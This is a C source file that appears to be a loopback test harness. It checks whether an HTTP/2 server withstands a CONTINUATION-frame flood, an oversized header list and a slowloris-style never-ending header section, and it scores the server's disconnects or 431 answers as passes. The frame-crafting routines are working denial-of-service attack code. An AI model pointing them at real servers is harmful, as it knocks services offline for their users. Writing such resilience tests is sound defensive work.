/*
 * ript-attack, raw HTTP/2 modes: an nghttp2 client session over GnuTLS on
 * a blocking socket, with header blocks written by hand where nghttp2
 * would refuse to misbehave: a CONTINUATION flood, a header section with
 * too many fields, and a header section that never ends (slowloris).
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <gnutls/gnutls.h>
#include <nghttp2/nghttp2.h>

#include "attack.h"

typedef struct h2c {
  int fd;
  gnutls_session_t tls;
  gnutls_certificate_credentials_t cred;
  nghttp2_session *h2;
  int goaway;             /* a GOAWAY arrived */
  uint32_t goaway_code;
  int rst;                /* an RST_STREAM arrived */
  int status;             /* :status of stream 1's response */
  int eof;                /* the server closed the connection */
  int quiet;              /* send nothing more (raw frames are in flight) */
} h2c;

static ssize_t h2c_send(nghttp2_session *h2, const uint8_t *data, size_t len,
                        int flags, void *user_data) {
  h2c *c = user_data;
  (void)h2, (void)flags;
  ssize_t n = gnutls_record_send(c->tls, data, len);
  return n < 0 ? NGHTTP2_ERR_CALLBACK_FAILURE : n;
}

/* Frames are noted as they begin: the raw modes make streams nghttp2's
 * session does not know, whose frames it would reject unseen. */
static int h2c_on_begin_frame(nghttp2_session *h2, const nghttp2_frame_hd *hd,
                              void *user_data) {
  h2c *c = user_data;
  (void)h2;
  if (hd->type == NGHTTP2_RST_STREAM)
    c->rst = 1;
  return 0;
}

static int h2c_on_frame_recv(nghttp2_session *h2, const nghttp2_frame *frame,
                             void *user_data) {
  h2c *c = user_data;
  (void)h2;
  if (frame->hd.type == NGHTTP2_GOAWAY) {
    c->goaway = 1;
    c->goaway_code = frame->goaway.error_code;
  }
  return 0;
}

static int h2c_on_header(nghttp2_session *h2, const nghttp2_frame *frame,
                         const uint8_t *name, size_t namelen,
                         const uint8_t *value, size_t valuelen, uint8_t flags,
                         void *user_data) {
  h2c *c = user_data;
  (void)h2, (void)frame, (void)flags;
  if (namelen == 7 && memcmp(name, ":status", 7) == 0 && valuelen == 3)
    c->status = atoi((const char *)value);
  return 0;
}

static int h2c_connect(h2c *c, uint16_t port) {
  static const gnutls_datum_t alpn = {(unsigned char *)"h2", 2};
  memset(c, 0, sizeof(*c));
  struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(port)};
  sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  c->fd = socket(AF_INET, SOCK_STREAM, 0);
  if (c->fd < 0 || connect(c->fd, (struct sockaddr *)&sin, sizeof(sin)) != 0)
    return -1;
  gnutls_certificate_allocate_credentials(&c->cred);
  gnutls_init(&c->tls, GNUTLS_CLIENT);
  gnutls_set_default_priority(c->tls);
  gnutls_credentials_set(c->tls, GNUTLS_CRD_CERTIFICATE, c->cred);
  gnutls_alpn_set_protocols(c->tls, &alpn, 1, 0);
  gnutls_transport_set_int(c->tls, c->fd);
  int rv;
  do {
    rv = gnutls_handshake(c->tls);
  } while (rv < 0 && !gnutls_error_is_fatal(rv));
  if (rv < 0)
    return -1;
  nghttp2_session_callbacks *cbs;
  nghttp2_session_callbacks_new(&cbs);
  nghttp2_session_callbacks_set_send_callback(cbs, h2c_send);
  nghttp2_session_callbacks_set_on_begin_frame_callback(cbs,
                                                        h2c_on_begin_frame);
  nghttp2_session_callbacks_set_on_frame_recv_callback(cbs, h2c_on_frame_recv);
  nghttp2_session_callbacks_set_on_header_callback(cbs, h2c_on_header);
  rv = nghttp2_session_client_new(&c->h2, cbs, c);
  nghttp2_session_callbacks_del(cbs);
  if (rv != 0)
    return -1;
  nghttp2_submit_settings(c->h2, NGHTTP2_FLAG_NONE, NULL, 0);
  return nghttp2_session_send(c->h2) == 0 ? 0 : -1;
}

static void h2c_close(h2c *c) {
  if (c->h2)
    nghttp2_session_del(c->h2);
  if (c->tls)
    gnutls_deinit(c->tls);
  if (c->cred)
    gnutls_certificate_free_credentials(c->cred);
  if (c->fd >= 0)
    close(c->fd);
}

/* Reads for up to |ms| or until |done| says so or the server closes. The
 * session answers PINGs and SETTINGS meanwhile. */
static void h2c_pump(h2c *c, int ms, int (*done)(const h2c *c)) {
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  while (!c->eof && !(done && done(c))) {
    clock_gettime(CLOCK_MONOTONIC, &t);
    int left = ms - (int)((t.tv_sec - t0.tv_sec) * 1000 +
                          (t.tv_nsec - t0.tv_nsec) / 1000000);
    if (left <= 0)
      return;
    struct pollfd p = {c->fd, POLLIN, 0};
    if (gnutls_record_check_pending(c->tls) == 0 && poll(&p, 1, left) <= 0)
      continue;
    uint8_t buf[16384];
    ssize_t n = gnutls_record_recv(c->tls, buf, sizeof(buf));
    if (n == GNUTLS_E_AGAIN || n == GNUTLS_E_INTERRUPTED)
      continue;
    if (n <= 0) {
      c->eof = 1;
      return;
    }
    (void)nghttp2_session_mem_recv(c->h2, buf, (size_t)n);
    if (!c->quiet)
      (void)nghttp2_session_send(c->h2);
  }
}

/* One frame written around nghttp2 (the peer's view of stream 1 only). */
static int h2c_frame(h2c *c, uint8_t type, uint8_t flags, int32_t stream,
                     const uint8_t *payload, size_t len) {
  uint8_t hd[9] = {(uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len,
                   type, flags, (uint8_t)(stream >> 24), (uint8_t)(stream >> 16),
                   (uint8_t)(stream >> 8), (uint8_t)stream};
  if (gnutls_record_send(c->tls, hd, sizeof(hd)) < 0)
    return -1;
  return len && gnutls_record_send(c->tls, payload, len) < 0 ? -1 : 0;
}

/* The request pseudo-headers, HPACK-encoded with static table indexes:
 * :method GET (2), :scheme https (7), :path / (4), then :authority. */
static size_t h2c_request_block(uint8_t *out) {
  static const uint8_t fixed[] = {0x82, 0x87, 0x84, 0x41, 0x09, '1', '2', '7',
                                  '.',  '0',  '.',  '0',  '.',  '1'};
  memcpy(out, fixed, sizeof(fixed));
  return sizeof(fixed);
}

/* A literal field "x-aN: vvvv..." without indexing. */
static size_t h2c_literal(uint8_t *out, size_t i, size_t vlen) {
  char name[16];
  int nlen = snprintf(name, sizeof(name), "x-a%zu", i);
  out[0] = 0x00;
  out[1] = (uint8_t)nlen;
  memcpy(out + 2, name, (size_t)nlen);
  out[2 + nlen] = (uint8_t)vlen;
  memset(out + 3 + nlen, 'v', vlen);
  return 3 + (size_t)nlen + vlen;
}

static int h2c_goaway_or_rst(const h2c *c) { return c->goaway || c->rst; }

static int h2c_answered(const h2c *c) {
  return c->status || c->goaway || c->rst;
}

int attack_h2_continuation(const attack_opts *o) {
  h2c c;
  if (h2c_connect(&c, o->port) != 0) {
    fprintf(stderr, "ript-attack: cannot connect\n");
    h2c_close(&c);
    return 2;
  }
  uint8_t block[256];
  size_t n = h2c_request_block(block);
  size_t sent = 0;
  int rv = h2c_frame(&c, NGHTTP2_HEADERS, 0, 1, block, n);
  for (; rv == 0 && sent < o->count && !c.goaway && !c.eof; ++sent) {
    n = h2c_literal(block, sent, 16);
    rv = h2c_frame(&c, NGHTTP2_CONTINUATION, 0, 1, block, n);
    if (sent % 64 == 63)
      h2c_pump(&c, 1, NULL);
  }
  h2c_pump(&c, (int)o->seconds * 1000, h2c_goaway_or_rst);
  int cut = c.goaway || c.eof || rv != 0;
  printf("h2 continuation flood: %zu CONTINUATION frames sent, %s (GOAWAY "
         "%s, code %u)\n",
         sent, cut ? "connection closed by the server" : "never cut off",
         c.goaway ? "received" : "not seen", c.goaway_code);
  h2c_close(&c);
  return cut ? 0 : 1;
}

int attack_h2_many_headers(const attack_opts *o) {
  h2c c;
  if (h2c_connect(&c, o->port) != 0) {
    fprintf(stderr, "ript-attack: cannot connect\n");
    h2c_close(&c);
    return 2;
  }
  /* |count| small fields through nghttp2 itself, so that its session
   * knows the stream and decodes the answer. */
  size_t max = o->count > 1000 ? 1000 : o->count;
  nghttp2_nv *nva = calloc(max + 4, sizeof(*nva));
  char(*names)[16] = calloc(max, sizeof(*names));
  static const char *const pseudo[4][2] = {{":method", "GET"},
                                           {":scheme", "https"},
                                           {":path", "/"},
                                           {":authority", "127.0.0.1"}};
  for (size_t i = 0; i < 4; ++i)
    nva[i] = (nghttp2_nv){(uint8_t *)(uintptr_t)pseudo[i][0],
                          (uint8_t *)(uintptr_t)pseudo[i][1],
                          strlen(pseudo[i][0]), strlen(pseudo[i][1]),
                          NGHTTP2_NV_FLAG_NONE};
  for (size_t i = 0; i < max; ++i) {
    snprintf(names[i], sizeof(names[i]), "x-a%zu", i);
    nva[4 + i] = (nghttp2_nv){(uint8_t *)names[i], (uint8_t *)"vvvvvvvv",
                              strlen(names[i]), 8, NGHTTP2_NV_FLAG_NONE};
  }
  nghttp2_submit_request(c.h2, NULL, nva, max + 4, NULL, NULL);
  (void)nghttp2_session_send(c.h2);
  free(nva);
  free(names);
  h2c_pump(&c, (int)o->seconds * 1000, h2c_answered);
  printf("h2 many headers: %zu fields, answer %d%s\n", max, c.status,
         c.rst ? " (stream reset)" : "");
  h2c_close(&c);
  return c.status == 431 || c.rst ? 0 : 1;
}

int attack_h2_slow_headers(const attack_opts *o) {
  h2c c;
  if (h2c_connect(&c, o->port) != 0) {
    fprintf(stderr, "ript-attack: cannot connect\n");
    h2c_close(&c);
    return 2;
  }
  /* A header section that never ends: HEADERS without END_HEADERS, once
   * SETTINGS are acknowledged, and then not a byte (any frame other than
   * CONTINUATION would be a protocol error, not a slowloris). */
  h2c_pump(&c, 300, NULL);
  c.quiet = 1;
  uint8_t block[64];
  size_t n = h2c_request_block(block);
  h2c_frame(&c, NGHTTP2_HEADERS, 0, 1, block, n);
  h2c_pump(&c, (int)o->seconds * 1000, h2c_goaway_or_rst);
  int cut = c.rst || c.goaway || c.eof;
  printf("h2 slow headers: %s\n",
         c.rst ? "stream reset by the server"
               : cut ? "connection closed by the server" : "never cut off");
  h2c_close(&c);
  return cut ? 0 : 1;
}
